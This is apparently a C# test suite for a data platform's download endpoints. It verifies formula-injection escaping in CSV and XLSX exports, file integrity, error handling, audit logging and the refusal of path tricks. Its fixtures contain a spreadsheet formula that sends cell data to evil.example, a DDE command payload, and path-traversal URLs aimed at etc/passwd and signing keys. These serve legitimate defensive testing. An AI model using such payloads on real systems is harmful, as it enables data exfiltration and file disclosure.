using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using DataPlatform.Contracts.Access;
using MiniExcelLibs;
using ParquetSharp;
using Encoding = System.Text.Encoding;

namespace DataPlatform.Catalog.Tests.Downloads;

/// <summary>
/// What a download must never do: run a publisher's text as a spreadsheet formula, answer 200 with a file that is
/// not the format it promised, or hand out anything for a path trick.
/// </summary>
public abstract class ExportSafetyTests(CatalogPlatformFixture platform)
{
    /// <summary>Text cells a spreadsheet would run, next to numbers and number-like text that must stay as they are.</summary>
    const string FormulaCsv = "ma,ghi_chu,so,dien_thoai\n" +
        "1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",-5,+84912345678\n" +
        "2,+cmd|' /C calc'!A0,-12,-12.5\n" +
        "3,@SUM(1+1),0,-\n" +
        "4,-2+3,7,Hà Nội\n";

    static System.Text.Json.Nodes.JsonArray FormulaColumns() =>
    [
        CatalogTestData.Column("ma", "integer", key: true),
        CatalogTestData.Column("ghi_chu", "string"),
        CatalogTestData.Column("so", "integer"),
        CatalogTestData.Column("dien_thoai", "string"),
    ];

    async Task<string> PublishAsync(System.Text.Json.Nodes.JsonArray columns, string csv, string access = "open")
    {
        var id = CatalogTestData.NewId("xs");
        using var publisher = platform.Publisher();
        await publisher.CreateAsync(id, CatalogTestData.Metadata(access: access, columns: columns));
        await publisher.PublishOkAsync(id, csv);
        return id;
    }

    static string Sha256(byte[] bytes) => Convert.ToHexStringLower(SHA256.HashData(bytes));

    [Fact]
    public async Task Text_cells_a_spreadsheet_would_run_get_an_apostrophe_in_CSV_while_numbers_stay_as_they_are()
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv);
        using var client = platform.CreateGatewayClient();

        using var escaped = await client.GetAsync($"/api/v1/datasets/{id}/download.csv?bom=false");
        var escapedBytes = await escaped.Content.ReadAsByteArrayAsync();
        var filtered = await client.GetStringAsync($"/api/v1/datasets/{id}/download.csv?bom=false&$filter=ma le 3&columns=ghi_chu,so");

        Assert.Equal(HttpStatusCode.OK, escaped.StatusCode);
        Assert.Equal(
            "ma,ghi_chu,so,dien_thoai\r\n" +
            "1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",-5,+84912345678\r\n" +
            "2,'+cmd|' /C calc'!A0,-12,-12.5\r\n" +
            "3,'@SUM(1+1),0,'-\r\n" +
            "4,'-2+3,7,Hà Nội\r\n",
            Encoding.UTF8.GetString(escapedBytes));
        Assert.Equal(
            "ghi_chu,so\r\n" +
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",-5\r\n" +
            "'+cmd|' /C calc'!A0,-12\r\n" +
            "'@SUM(1+1),0\r\n",
            filtered);
    }

    [Fact]
    public async Task The_raw_CSV_for_programs_is_a_file_of_its_own_with_its_own_digest_and_signature()
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv);
        using var client = platform.CreateGatewayClient();
        var url = $"/api/v1/datasets/{id}/download.csv";

        var escaped = await client.GetByteArrayAsync(url);
        var raw = await client.GetByteArrayAsync(url + "?escapeFormulas=false");
        var rawWithoutBom = await client.GetByteArrayAsync(url + "?escapeFormulas=false&bom=false");
        var escapedDigest = await client.GetStringAsync(url + ".sha256");
        var rawDigest = await client.GetStringAsync(url + ".sha256?escapeFormulas=false");
        var rawWithoutBomDigest = await client.GetStringAsync(url + ".sha256?escapeFormulas=false&bom=false");
        var escapedSignature = await client.GetStringAsync(url + ".jws");
        var rawSignature = await client.GetStringAsync(url + ".jws?escapeFormulas=false");
        var rawFiltered = await client.GetStringAsync(url + "?escapeFormulas=false&bom=false&$filter=ma eq 1&columns=ghi_chu");
        using var wrong = await client.GetAsync(url + "?escapeFormulas=maybe");

        Assert.Equal(
            "ma,ghi_chu,so,dien_thoai\r\n" +
            "1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\",-5,+84912345678\r\n" +
            "2,+cmd|' /C calc'!A0,-12,-12.5\r\n" +
            "3,@SUM(1+1),0,-\r\n" +
            "4,-2+3,7,Hà Nội\r\n",
            Encoding.UTF8.GetString(rawWithoutBom));
        Assert.Equal([0xEF, 0xBB, 0xBF], raw[..3]);
        Assert.Equal(rawWithoutBom, raw[3..]);
        Assert.Equal("ghi_chu\r\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Bấm vào đây\"\")\"\r\n", rawFiltered);
        Assert.Equal($"{Sha256(escaped)}  {id}-v1.csv\n", escapedDigest);
        Assert.Equal($"{Sha256(raw)}  {id}-v1.csv\n", rawDigest);
        Assert.Equal($"{Sha256(rawWithoutBom)}  {id}-v1.csv\n", rawWithoutBomDigest);
        Assert.NotEqual(escapedDigest, rawDigest);
        Assert.NotEqual(escapedSignature.Split('.')[2], rawSignature.Split('.')[2]);
        Assert.Equal("escapeFormulas", (await wrong.ProblemAsync(400)).GetProperty("target").GetString());
    }

    [Fact]
    public async Task XLSX_keeps_formula_like_text_as_text_cells_and_never_writes_a_formula()
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv);
        using var client = platform.CreateGatewayClient();

        foreach (var url in new[] { $"/api/v1/datasets/{id}/download.xlsx", $"/api/v1/datasets/{id}/download.xlsx?$filter=ma le 4&columns=ma,ghi_chu,so" })
        {
            var bytes = await client.GetByteArrayAsync(url);
            using (var zip = new ZipArchive(new MemoryStream(bytes)))
            {
                var sheet = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal));
                using var reader = new StreamReader(sheet.Open());
                var xml = await reader.ReadToEndAsync();
                Assert.DoesNotContain("<f>", xml, StringComparison.Ordinal);
                Assert.DoesNotContain("<f ", xml, StringComparison.Ordinal);
            }

            using var workbook = new MemoryStream(bytes);
            var rows = MiniExcel.Query(workbook, useHeaderRow: true).Cast<IDictionary<string, object>>().ToList();
            Assert.Equal("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", rows[0]["ghi_chu"]);
            Assert.Equal("@SUM(1+1)", rows[2]["ghi_chu"]);
            Assert.Equal(-5d, Convert.ToDouble(rows[0]["so"], CultureInfo.InvariantCulture));
        }
    }

    const string TypedCsv = "ma,ten,so,ty_le,dung,ngay\n" +
        "01,Hà Nội,8435700,1.25,true,2024-01-31\n" +
        "79,\"Hồ Chí Minh, thành phố\",9456700,-0.5,false,2023-12-01\n" +
        "46,Huế,,,,\n" +
        "48,Đà Nẵng,1220200,2.75,true,2024-06-30\n";

    static System.Text.Json.Nodes.JsonArray TypedColumns() =>
    [
        CatalogTestData.Column("ma", "string", key: true),
        CatalogTestData.Column("ten", "string"),
        CatalogTestData.Column("so", "integer"),
        CatalogTestData.Column("ty_le", "decimal"),
        CatalogTestData.Column("dung", "boolean"),
        CatalogTestData.Column("ngay", "date"),
    ];

    [Theory]
    [InlineData("csv")]
    [InlineData("ndjson")]
    [InlineData("json")]
    [InlineData("parquet")]
    [InlineData("xlsx")]
    public async Task A_filtered_column_selected_download_is_a_whole_file_its_format_reader_opens(string format)
    {
        var id = await PublishAsync(TypedColumns(), TypedCsv);
        using var client = platform.CreateGatewayClient();

        using var response = await client.GetAsync(
            $"/api/v1/datasets/{id}/download.{format}?bom=false&$filter=so gt 1000000&columns=ten,so,ty_le,ngay&$orderby=so desc");
        var bytes = await response.Content.ReadAsByteArrayAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var rows = Read(format, bytes);
        Assert.Equal(
            [
                ["Hồ Chí Minh, thành phố", "9456700", "-0.5", "2023-12-01"],
                ["Hà Nội", "8435700", "1.25", "2024-01-31"],
                ["Đà Nẵng", "1220200", "2.75", "2024-06-30"],
            ],
            rows);
        if (format is "parquet" or "xlsx")
        {
            // A spooled file is sent complete, with its length known before the first byte.
            Assert.Equal(bytes.Length, response.Content.Headers.ContentLength);
        }
    }

    /// <summary>The rows of <paramref name="bytes"/> as read by the format's own reader, every value as invariant text.</summary>
    static List<string[]> Read(string format, byte[] bytes)
    {
        static string Text(object? value) => value switch
        {
            null => "",
            DateTime d => d.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
            Date d => d.DateTime.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture),
            double d => d.ToString(CultureInfo.InvariantCulture),
            decimal d => d.ToString("0.##", CultureInfo.InvariantCulture),
            IFormattable f => f.ToString(null, CultureInfo.InvariantCulture),
            _ => value.ToString()!,
        };

        switch (format)
        {
            case "csv":
                var lines = Encoding.UTF8.GetString(bytes).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
                Assert.Equal("ten,so,ty_le,ngay", lines[0]);
                return lines.Skip(1).Select(line => line.StartsWith('"')
                    ? [line[1..line.IndexOf("\",", StringComparison.Ordinal)], .. line[(line.IndexOf("\",", StringComparison.Ordinal) + 2)..].Split(',')]
                    : line.Split(',')).ToList();
            case "ndjson" or "json":
                var objects = format == "json"
                    ? JsonDocument.Parse(bytes).RootElement.EnumerateArray().ToList()
                    : Encoding.UTF8.GetString(bytes).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
                return objects.Select(o => new[]
                {
                    o.GetProperty("ten").GetString()!, o.GetProperty("so").GetInt64().ToString(CultureInfo.InvariantCulture),
                    o.GetProperty("ty_le").GetDecimal().ToString(CultureInfo.InvariantCulture), o.GetProperty("ngay").GetString()!,
                }).ToList();
            case "parquet":
                var path = Path.GetTempFileName();
                try
                {
                    File.WriteAllBytes(path, bytes);
                    using var file = new ParquetFileReader(path);
                    Assert.Equal(["ten", "so", "ty_le", "ngay"], Enumerable.Range(0, 4).Select(i => file.FileMetaData.Schema.Column(i).Name));
                    var count = (int)file.FileMetaData.NumRows;
                    using var group = file.RowGroup(0);
                    var ten = group.Column(0).LogicalReader<string>().ReadAll(count);
                    var so = group.Column(1).LogicalReader<long?>().ReadAll(count);
                    var tyLe = group.Column(2).LogicalReader<decimal?>().ReadAll(count);
                    var ngay = group.Column(3).LogicalReader<Date?>().ReadAll(count);
                    return Enumerable.Range(0, count).Select(i => new[] { ten[i], Text(so[i]), Text(tyLe[i]), Text(ngay[i]) }).ToList();
                }
                finally
                {
                    File.Delete(path);
                }

            default:
                using (var workbook = new MemoryStream(bytes))
                {
                    return MiniExcel.Query(workbook, useHeaderRow: true).Cast<IDictionary<string, object>>()
                        .Select(r => new[] { Text(r["ten"]), Text(r["so"]), Text(r["ty_le"]), Text(r["ngay"]) }).ToList();
                }
        }
    }

    /// <summary>
    /// A query that fails on a row the database reaches only at the end: on PostgreSQL a division by zero in the
    /// filter, on SQLite (where a division by zero is null) the sum of a group that overflows.
    /// </summary>
    string FailingAtRow(int row) => platform.Backend == Backend.Production
        ? $"$filter=100 div (ma sub {row}) ge -1000"
        : "$apply=groupby((nhom),aggregate(so with sum as tong))";

    async Task<string> PublishFailingAsync(int rows)
    {
        var csv = new StringBuilder("ma,nhom,so\n");
        for (var i = 0; i < rows - 2; i++)
        {
            csv.Append(CultureInfo.InvariantCulture, $"{i},{i},{i}\n");
        }

        // The last group: two values whose sum does not fit a 64-bit integer.
        csv.Append(CultureInfo.InvariantCulture, $"{rows - 2},{rows},{long.MaxValue}\n{rows - 1},{rows},{long.MaxValue}\n");
        return await PublishAsync(
            [CatalogTestData.Column("ma", "integer", key: true), CatalogTestData.Column("nhom", "integer"), CatalogTestData.Column("so", "integer")],
            csv.ToString());
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("ndjson")]
    [InlineData("json")]
    public async Task An_export_that_fails_after_its_first_bytes_cuts_the_connection_rather_than_ending_as_a_200(string format)
    {
        const int rows = 60_000;
        var id = await PublishFailingAsync(rows);
        using var client = platform.CreateGatewayClient();

        using var response = await client.GetAsync($"/api/v1/datasets/{id}/download.{format}?{FailingAtRow(rows - 1)}", HttpCompletionOption.ResponseHeadersRead);

        // The rows before the failing one were already on their way: the status is sent, the body never ends cleanly.
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var failure = await Record.ExceptionAsync(() => response.Content.ReadAsByteArrayAsync());
        Assert.True(failure is HttpRequestException or IOException, $"the body ended cleanly instead of failing ({failure?.GetType().Name})");

        // The platform is unharmed: the same dataset downloads whole afterwards.
        using var whole = await client.GetAsync($"/api/v1/datasets/{id}/download.csv");
        Assert.Equal(HttpStatusCode.OK, whole.StatusCode);
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("json")]
    [InlineData("parquet")]
    [InlineData("xlsx")]
    public async Task An_export_that_fails_before_anything_is_sent_is_a_problem_and_not_a_200(string format)
    {
        var id = await PublishFailingAsync(4);
        using var client = platform.CreateGatewayClient();

        using var response = await client.GetAsync($"/api/v1/datasets/{id}/download.{format}?{FailingAtRow(0)}");

        var problem = await response.ProblemAsync(400);
        Assert.Equal("/problems/invalid-query", problem.GetProperty("type").GetString());
        Assert.False(response.Content.Headers.Contains("Content-Disposition"));
        var detail = problem.GetProperty("detail").GetString()!;
        Assert.DoesNotContain("SQLite", detail, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("Postgres", detail, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData("/api/v1/datasets/{id}/download.txt")]
    [InlineData("/api/v1/datasets/{id}/download.CSV")]
    [InlineData("/api/v1/datasets/{id}/download.csv.sha256.jws")]
    [InlineData("/api/v1/datasets/{id}/download.txt.sha256")]
    [InlineData("/api/v1/datasets/{id}/download.sha256")]
    [InlineData("/api/v1/datasets/{id}/download.jws")]
    [InlineData("/api/v1/datasets/{id}/download.csv.md5")]
    [InlineData("/api/v1/datasets/{id}/download..csv")]
    [InlineData("/api/v1/datasets/{id}/download.csv%2f..%2f..%2fsigning-keys")]
    [InlineData("/api/v1/datasets/{id}/download.csv%252f..%252f")]
    [InlineData("/api/v1/datasets/{id}/download.%2e%2e")]
    [InlineData("/api/v1/datasets/..%2f{id}/download.csv")]
    [InlineData("/api/v1/datasets/..%2f..%2f..%2fetc%2fpasswd/download.csv")]
    [InlineData("/api/v1/datasets/..%252f..%252fsigning-keys/download.csv")]
    [InlineData("/api/v1/datasets/%2e%2e/download.csv")]
    [InlineData("/api/v1/datasets/{id}%2f..%2f{id}/download.csv.jws")]
    [InlineData("/api/v1/datasets/{id}/download.csv?version=..%2f1")]
    [InlineData("/api/v1/datasets/{id}/download.csv?version=1%00")]
    [InlineData("/api/v1/datasets/{id}/download.csv?version=99999999999999999999")]
    [InlineData("/api/v1/datasets/{long}/download.csv")]
    [InlineData("/api/v1/datasets/{long}/download.parquet.sha256")]
    public async Task Path_tricks_in_a_download_url_get_a_4xx_problem_and_never_a_file(string template)
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv);
        using var client = platform.CreateGatewayClient();
        var url = template.Replace("{id}", id, StringComparison.Ordinal).Replace("{long}", new string('a', 3000), StringComparison.Ordinal);

        using var response = await client.GetAsync(url);
        var body = await response.Content.ReadAsStringAsync();

        Assert.True((int)response.StatusCode is >= 400 and < 500, $"{url}: {(int)response.StatusCode} {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("HYPERLINK", body, StringComparison.Ordinal);
        Assert.DoesNotContain("BEGIN", body, StringComparison.Ordinal);
        Assert.DoesNotContain("Exception", body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/api/v1/datasets/{id}/download.csv%00")]
    [InlineData("/api/v1/datasets/{id}/download.csv%00.sha256")]
    [InlineData("/api/v1/datasets/{id}%00/download.csv")]
    [InlineData("/api/v1/datasets/{id}%00/download.csv.jws")]
    public async Task A_NUL_in_a_download_path_is_refused_by_the_server_before_any_handler_runs(string template)
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv);
        var url = template.Replace("{id}", id, StringComparison.Ordinal);
        using var gateway = platform.CreateGatewayClient();
        using var catalog = platform.CreateCatalogClient();

        foreach (var client in new[] { gateway, catalog })
        {
            // Kestrel rejects a request target holding a NUL as malformed, with a bare 400 of its own.
            using var response = await client.GetAsync(url);
            var body = await response.Content.ReadAsStringAsync();
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.DoesNotContain("HYPERLINK", body, StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task A_filtered_download_of_restricted_data_by_an_entitled_consumer_is_in_the_audit_log()
    {
        var id = await PublishAsync(FormulaColumns(), FormulaCsv, access: "restricted");
        using var entitled = platform.Entitled(Entitlements.Dataset(id));
        using var admin = platform.CreateCatalogClient(PlatformFixture.Consumer("acct-admin", Roles.Admin));

        var workbook = await entitled.GetByteArrayAsync($"/api/v1/datasets/{id}/download.xlsx?$filter=so lt 0&columns=ma,so");
        var entries = await admin.GetFromJsonAsync<JsonElement>($"/api/v1/query-audit?datasetId={id}");

        using (var stream = new MemoryStream(workbook))
        {
            Assert.Equal(2, MiniExcel.Query(stream, useHeaderRow: true).Count());
        }

        var entry = Assert.Single(entries.EnumerateArray());
        Assert.Equal("acct-entitled", entry.GetProperty("accountId").GetString());
        Assert.Equal(2, entry.GetProperty("rows").GetInt64());
        Assert.Contains("so lt 0", Uri.UnescapeDataString(entry.GetProperty("query").GetString()!), StringComparison.Ordinal);
    }
}

[Collection(EmbeddedCollection.Name)]
public sealed class ExportSafetyTests_Embedded(CatalogEmbeddedFixture platform) : ExportSafetyTests(platform);

[Collection(ProductionCollection.Name)]
public sealed class ExportSafetyTests_Production(CatalogProductionFixture platform) : ExportSafetyTests(platform);
